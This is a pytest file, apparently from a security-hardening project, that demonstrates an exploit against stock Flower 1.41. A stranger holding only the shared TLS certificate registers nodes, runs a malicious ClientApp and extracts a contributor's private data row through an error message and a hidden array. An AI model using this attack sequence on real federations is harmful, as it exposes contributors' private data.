"""What stock Flower 1.41 lets a stranger do to a contributor, with TLS and node authentication on.

The stranger has nothing but the certificate that everybody has. What stops each step here is in
tests/coordinator/fleet/flower/test_stock.py, tests/client/daemon/test_executor.py and deploy/federation/attacks.py.
"""

import hashlib
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import uvicorn
from flwr.app import Message, RecordDict
from flwr.cli.build import build_fab_from_files
from flwr.common.serde import fab_to_proto, run_from_proto
from flwr.proto.control_pb2 import ListNodesRequest, RegisterNodeRequest, StartRunRequest
from flwr.proto.runtime_pb2 import AcquireTaskRequest, PullTaskInputRequest
from flwr.supercore.constant import TaskType
from flwr.supercore.control import ControlHttpClient
from flwr.supercore.fab import Fab
from flwr.supercore.interceptors import RuntimeVersionHttpInterceptor
from flwr.supercore.runtime import RuntimeHttpClient
from flwr.supercore.task_identity import TaskIdentity
from flwr.superlink.grid import HttpGrid

from deploy.demo.processes import free_port
from deploy.federation.wiretap import make_certificate
from protocol.fleet.node_key import NodeKey
from tests.stock import evil_app, make_link, served

pytestmark = [
    pytest.mark.slow,
    pytest.mark.filterwarnings("ignore"),  # Flower's own
]
ROW = "zanzibar-4711"
EVIL = evil_app(b"""
from flwr.app import ArrayRecord, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp
import numpy

client = ClientApp()
server = None

def row(context):
    return open(context.node_config["data-path"]).readline()

@client.query("crash")
def crash(message, context):
    raise KeyError(row(context))

@client.query("array")
def array(message, context):
    stolen = ArrayRecord([numpy.frombuffer(row(context).encode(), dtype=numpy.uint8)])
    return Message(RecordDict({"metrics": MetricRecord({"loss": 1.0}), "more": stolen}), reply_to=message)
""")


@contextmanager
def superlink(folder: Path) -> Iterator[str]:
    """Flower's own server as its manual starts it: TLS, node authentication, no secret."""
    certificate, key = make_certificate(folder)
    app, _ = make_link(folder)
    app.state.superexec_auth_secret = None  # type: ignore[attr-defined] # as stock Flower starts
    tls = uvicorn.Config(app, log_level="error", ws="none", ssl_certfile=certificate, ssl_keyfile=key)
    with served(app, tls) as port:
        yield f"127.0.0.1:{port}"


@contextmanager
def supernode(folder: Path, address: str) -> Iterator[str]:
    """A contributor's node as Flower's manual starts it; yields its public key."""
    key, data = NodeKey.generate(), folder / "train.jsonl"
    key.save(folder / "node.key")
    data.write_text(f'{{"input": "{ROW}"}}\n')
    quiet = {
        "FLWR_HOME": str(folder / "node"), "FLWR_TELEMETRY_ENABLED": "0", "FLWR_DISABLE_UPDATE_CHECK": "1",
        "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
    }  # fmt: skip
    command = [
        str(Path(sys.executable).with_name("flower-supernode")), "--superlink", address,
        "--root-certificates", str(folder / "cert.pem"), "--auth-supernode-private-key", str(folder / "node.key"),
        "--host", "127.0.0.1", "--port", str(free_port()), "--node-config", f'data-path="{data}"',
    ]  # fmt: skip
    with (folder / "node.log").open("w") as log:
        process = subprocess.Popen(command, env=os.environ | quiet, stdout=log, stderr=log)
        try:
            yield key.public
        finally:
            process.terminate()
            process.wait(30)


class Stranger:
    """Has an address and a certificate."""

    def __init__(self, address: str, certificate: Path) -> None:
        way = {"server_address": address, "insecure": False, "root_certificates": certificate.read_bytes()}
        self.address, self.certificate = address, certificate
        version = [RuntimeVersionHttpInterceptor(component_name="stranger")]
        self.control = ControlHttpClient.from_server_address(**way, interceptors=version)  # type: ignore[arg-type]
        self.runtime = RuntimeHttpClient.from_server_address(**way, interceptors=version)  # type: ignore[arg-type]

    def start(self) -> HttpGrid:
        """Start a run of his own code, and take the ServerApp's place in it."""
        content, _ = build_fab_from_files(EVIL)
        fab = Fab(hashlib.sha256(content).hexdigest(), content, {})
        self.control.StartRun(StartRunRequest(fab=fab_to_proto(fab)))
        token = self.runtime.AcquireTask(AcquireTaskRequest(supported_task_types=[TaskType.SERVER_APP])).token
        grid = HttpGrid(self.address, insecure=False, root_certificates=self.certificate.read_bytes(), token=token)
        given = grid._runtime_client.PullTaskInput(PullTaskInputRequest())
        TaskIdentity.task_id, TaskIdentity.run_id = given.task_id, given.run.run_id
        TaskIdentity.node_id = given.context.node_id
        grid.set_run(run_from_proto(given.run))
        return grid


@pytest.mark.timeout(300)
def test_stock_flower_hands_a_private_row_to_a_stranger(tmp_path: Path) -> None:
    with superlink(tmp_path) as address, supernode(tmp_path, address) as public:
        stranger = Stranger(address, tmp_path / "cert.pem")
        # The contributor's node is let in; then the stranger lets his own in, as nobody asks who he is.
        stranger.control.RegisterNode(RegisterNodeRequest(public_key=public.encode()))
        stranger.control.RegisterNode(RegisterNodeRequest(public_key=NodeKey.generate().public.encode()))
        assert len(stranger.control.ListNodes(ListNodesRequest()).nodes_info) == 2
        grid = stranger.start()
        end = time.monotonic() + 60
        while not (nodes := list(grid.get_node_ids())):
            assert time.monotonic() < end
            time.sleep(0.5)
        asked = [Message(RecordDict(), nodes[0], f"query.{what}") for what in ("crash", "array")]
        replies = list(grid.send_and_receive(asked, timeout=120))
        (crash,) = (reply for reply in replies if reply.has_error())
        assert ROW in str(crash.error.reason)
        (array,) = (reply for reply in replies if not reply.has_error())
        (stolen,) = array.content.array_records["more"].to_numpy_ndarrays()
        assert ROW in stolen.tobytes().decode()
        grid.close()
